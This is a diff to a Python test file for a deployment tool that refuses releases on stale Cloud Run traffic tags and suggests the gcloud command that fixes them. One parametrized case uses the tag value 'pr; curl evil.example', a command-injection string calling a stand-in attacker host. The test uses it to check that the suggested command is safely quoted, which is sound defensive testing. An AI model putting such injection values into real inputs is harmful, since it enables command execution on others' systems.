@@ -14,7 +14,7 @@ from playbook.errors import Refused, ReleaseError, Transient
 from playbook.lease.change import Change
 from playbook.lease.record import LEASE, PARTICIPANT, Record
 from playbook.release.request import StandDown
-from playbook.release.traffic import ServiceSnapshot
+from playbook.release.traffic import PREVIOUS_TAG, ServiceSnapshot
 
 COORDINATOR, BACKEND, FRONTEND = SERVICES
 DENIED = "code 7: Permission 'iam.serviceaccounts.actAs' denied on the service account"
@@ -171,18 +171,35 @@ def test_a_rollback_drops_a_dead_tag_and_says_so() -> None:
     assert not test_env.is_held("production")
 
 
-def test_a_release_on_a_dead_tag_is_refused_with_the_command_that_mends_it() -> None:
-    """Case C3: nothing was touched, and nothing stays."""
+@pytest.mark.parametrize(("tag", "written"), [("pr-7", "pr-7"), ("pr; curl evil.example", "'pr; curl evil.example'")])
+def test_a_release_on_a_dead_tag_is_refused_with_the_command_that_mends_it(tag: str, written: str) -> None:
+    """Case C3: nothing was touched, and nothing stays. Whatever the tag is called, a person can copy the command."""
 
     async def scenario(test_env: TestEnvironment) -> tuple[TestEnvironment, Run]:
         test_env.fixture.publish(NEW)
-        with_dead_tag(test_env)
+        with_dead_tag(test_env, tag)
         return test_env, await test_env.release()
 
     test_env, run = play(scenario)
     assert run.end == "Refused"
     assert f"gcloud run services update-traffic {BACKEND} --project=" in run.message
-    assert run.message.rstrip(".").endswith("--remove-tags=pr-7")
+    assert run.message.rstrip(".").endswith(f"--remove-tags={written}")
+    assert not test_env.fixture.production.writes
+
+
+def test_a_tag_that_a_release_needs_is_refused_with_the_command_that_frees_it() -> None:
+    """Another person gave our name to a revision of theirs."""
+
+    async def scenario(test_env: TestEnvironment) -> tuple[TestEnvironment, Run]:
+        test_env.fixture.publish(NEW)
+        state = test_env.fixture.production.services[BACKEND]
+        state.split = state.served = state.split.with_tag(PREVIOUS_TAG, f"{BACKEND}-00001-old")
+        return test_env, await test_env.release()
+
+    test_env, run = play(scenario)
+    assert run.end == "Refused"
+    assert f"tag {PREVIOUS_TAG} is on {BACKEND}-00001-old, and no release of ours put it there" in run.message
+    assert run.message.rstrip(".").endswith(f"--remove-tags={PREVIOUS_TAG} --update-tags=NAME={BACKEND}-00001-old")
     assert not test_env.fixture.production.writes
 
 
